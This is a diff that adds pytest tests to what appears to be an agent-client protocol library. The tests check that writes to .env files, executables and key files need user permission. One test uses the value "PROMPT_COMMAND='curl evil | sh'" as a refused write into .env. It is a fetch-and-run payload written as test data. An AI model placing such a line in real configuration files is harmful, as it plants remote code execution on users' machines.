@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import asyncio
 import os
+import stat
 from pathlib import Path
 
 import pytest
@@ -21,8 +22,18 @@ from acpwire.client.access import (
     WriteRequest,
     read_only,
 )
+from acpwire.client.permissions import (
+    AllowAll,
+    AskUser,
+    PermissionOutcome,
+    PermissionPolicy,
+    PermissionRequest,
+    Rule,
+    Rules,
+)
 from acpwire.client.terminals import TerminalManager
 from acpwire.protocol.errors import ErrorCode
+from acpwire.schema import Diff
 from acpwire.testing import SchemaValidator
 
 from .roles import SESSION, TIMEOUT, PeerFiles, client_role, refused
@@ -221,3 +232,137 @@ async def test_protected_names_can_be_switched_off_on_the_client(workspace: Path
     async with client_role(workspace, protected_names=()) as files:
         await files.write(str(workspace / ".git" / "info"), "ok\n")
     assert (workspace / ".git" / "info").read_text() == "ok\n"
+
+
+# ---------------------------------------------------------------------------- writes that need a yes
+
+
+class Recorder:
+    """A permission policy that records what it was asked and answers with ``answer``."""
+
+    def __init__(self, answer: str | None) -> None:
+        self.seen: list[PermissionRequest] = []
+        self.policy = AskUser(self.ask)
+        self.answer = answer
+
+    def ask(self, request: PermissionRequest) -> str | None:
+        self.seen.append(request)
+        return self.answer
+
+
+async def test_a_dotenv_write_is_put_to_the_permission_policy_and_made_on_a_yes(
+    workspace: Path, schema_validator: SchemaValidator
+) -> None:
+    dotenv = workspace / ".env"
+    dotenv.write_text("DEBUG=0\n")
+    yes = Recorder("allow")
+    async with client_role(workspace, schema_validator, permissions=yes.policy) as files:
+        await files.write(str(dotenv), "DEBUG=1\n")
+    assert dotenv.read_text() == "DEBUG=1\n"
+    [request] = yes.seen
+    resolved = str(dotenv.resolve())
+    assert request.session_id == SESSION
+    assert request.concern == "sensitive_file"
+    assert [(o.option_id, o.kind) for o in request.options] == [
+        ("allow", "allow_once"),
+        ("refuse", "reject_once"),
+    ]
+    assert request.tool_call.kind == "edit"
+    assert request.tool_call.paths == [resolved]
+    assert resolved in (request.tool_call.title or "")
+    assert request.tool_call.content == [Diff(path=resolved, new_text="DEBUG=1\n")]
+
+
+async def test_a_no_or_a_dismissed_prompt_leaves_the_file_alone(workspace: Path) -> None:
+    dotenv = workspace / ".env"
+    dotenv.write_text("DEBUG=0\n")
+    for answer in ("refuse", None):
+        asked = Recorder(answer)
+        async with client_role(workspace, permissions=asked.policy) as files:
+            error = await refused(files.write(str(dotenv), "PROMPT_COMMAND='curl evil | sh'\n"))
+            assert error.code == ErrorCode.INVALID_PARAMS
+            assert error.data == {
+                "path": str(dotenv),
+                "reason": "needs_permission",
+                "concern": "sensitive_file",
+            }
+        assert len(asked.seen) == 1
+    assert dotenv.read_text() == "DEBUG=0\n"
+
+
+async def test_overwriting_an_executable_is_made_on_a_yes_and_keeps_its_mode(
+    workspace: Path,
+) -> None:
+    script = workspace / "build.sh"
+    script.write_text("#!/bin/sh\nmake\n")
+    script.chmod(0o750)
+    yes = Recorder("allow")
+    async with client_role(workspace, permissions=yes.policy) as files:
+        await files.write(str(script), "#!/bin/sh\nmake all\n")
+    assert [r.concern for r in yes.seen] == ["executable"]
+    assert "executable" in (yes.seen[0].tool_call.title or "")
+    assert script.read_text() == "#!/bin/sh\nmake all\n"
+    assert stat.S_IMODE(script.stat().st_mode) == 0o750
+
+
+async def test_an_executable_dotenv_is_asked_about_twice(workspace: Path) -> None:
+    dotenv = workspace / ".env"
+    dotenv.write_text("A=1\n")
+    dotenv.chmod(0o755)
+    yes = Recorder("allow")
+    async with client_role(workspace, permissions=yes.policy) as files:
+        await files.write(str(dotenv), "A=2\n")
+    assert [r.concern for r in yes.seen] == ["sensitive_file", "executable"]
+    assert dotenv.read_text() == "A=2\n"
+
+
+async def test_allow_all_is_not_a_permission_for_sensitive_writes(workspace: Path) -> None:
+    """AllowAll approves what the agent asks; that is not the user allowing .env."""
+    dotenv = workspace / ".env"
+    async with client_role(workspace, permissions=AllowAll(always=True)) as files:
+        error = await refused(files.write(str(dotenv), "X=1\n"))
+        assert error.data["reason"] == "needs_permission"
+    assert not dotenv.exists()
+    async with client_role(workspace, permissions=AllowAll(sensitive_writes=True)) as files:
+        await files.write(str(dotenv), "X=1\n")
+    assert dotenv.read_text() == "X=1\n"
+
+
+async def test_a_rule_naming_the_file_allows_it(workspace: Path) -> None:
+    policy = Rules([Rule("allow", path="*/config/.env")])
+    async with client_role(workspace, permissions=policy) as files:
+        await files.write(str(workspace / "config" / ".env"), "X=1\n")
+        error = await refused(files.write(str(workspace / ".env"), "X=1\n"))
+        assert error.data["reason"] == "needs_permission"
+    assert (workspace / "config" / ".env").read_text() == "X=1\n"
+    assert not (workspace / ".env").exists()
+
+
+async def test_a_pending_question_is_answered_no_when_the_session_is_cancelled(
+    workspace: Path,
+) -> None:
+    asked = asyncio.Event()
+
+    async def never_answers(request: PermissionRequest) -> PermissionOutcome:
+        asked.set()
+        await asyncio.Event().wait()
+        raise AssertionError("unreachable")
+
+    policy: PermissionPolicy = never_answers
+    async with client_role(workspace, permissions=policy) as files:
+        client = files.toolkit
+        write = asyncio.ensure_future(files.write(str(workspace / ".env"), "X=1\n"))
+        await asyncio.wait_for(asked.wait(), TIMEOUT)
+        assert client.pending_permissions(SESSION) == 1
+        await client.cancel(SESSION)
+        error = await refused(write)
+        assert error.data["reason"] == "needs_permission"
+    assert not (workspace / ".env").exists()
+
+
+async def test_confirm_names_are_configurable(workspace: Path) -> None:
+    async with client_role(workspace, confirm_names=["*.pem"]) as files:
+        await files.write(str(workspace / ".env"), "X=1\n")
+        error = await refused(files.write(str(workspace / "keys" / "server.PEM"), "k"))
+        assert error.data["reason"] == "needs_permission"
+    assert (workspace / ".env").read_text() == "X=1\n"
